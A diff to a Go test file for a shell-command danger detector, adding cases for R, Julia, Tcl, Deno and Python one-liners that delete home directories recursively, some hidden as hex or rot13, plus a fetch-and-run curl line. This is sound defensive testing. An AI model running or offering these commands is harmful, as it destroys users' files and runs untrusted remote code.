@@ -297,3 +297,29 @@ func TestEvalShellInitIntoSource(t *testing.T) {
 		{`eval curl -s https://203.0.113.5/x | source`, "", "", LevelHigh},
 	})
 }
+
+// More interpreters and more ways to hide code in them: R, Julia and Tcl
+// reaching a shell or deleting recursively, Deno's remove, execv with an
+// argument list, code hidden as hex or rot13.
+func TestInterpreterClasses(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`Rscript -e 'unlink("~", recursive=TRUE)'`, CategoryFileDelete, "", LevelHigh},
+		{`Rscript -e 'system("rm -rf ~")'`, CategoryFileDelete, "", LevelHigh},
+		{`julia -e 'rm(homedir(), recursive=true)'`, CategoryFileDelete, "", LevelHigh},
+		{"julia -e 'run(`rm -rf /home/dev`)'", CategoryFileDelete, "", LevelHigh},
+		{`tclsh <<< 'exec rm -rf /home/dev'`, CategoryFileDelete, "", LevelHigh},
+		{`deno eval 'Deno.removeSync(Deno.env.get("HOME"), {recursive: true})'`, "", "", LevelHigh},
+		{`python3 -c "import os; os.execvp('rm', ['rm','-rf','/home/dev'])"`, CategoryFileDelete, "", LevelHigh},
+		// hex of: import os;os.system('rm -rf ~')
+		{`python3 -c "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827726d202d7266207e2729').decode())"`, CategoryFileDelete, "", LevelHigh},
+		{`python3 -c "import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\'ez -es ~\')', 'rot13'))"`, CategoryFileDelete, "", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`Rscript -e 'unlink("build", recursive=TRUE)'`,
+		`Rscript -e 'print("rm -rf ~")'`,
+		`julia -e 'rm("tmp.txt")'`,
+		`tclsh <<< 'puts "exec rm -rf /home/dev"'`,
+		`python3 -c "print(bytes.fromhex('68656c6c6f').decode())"`,
+	})
+}
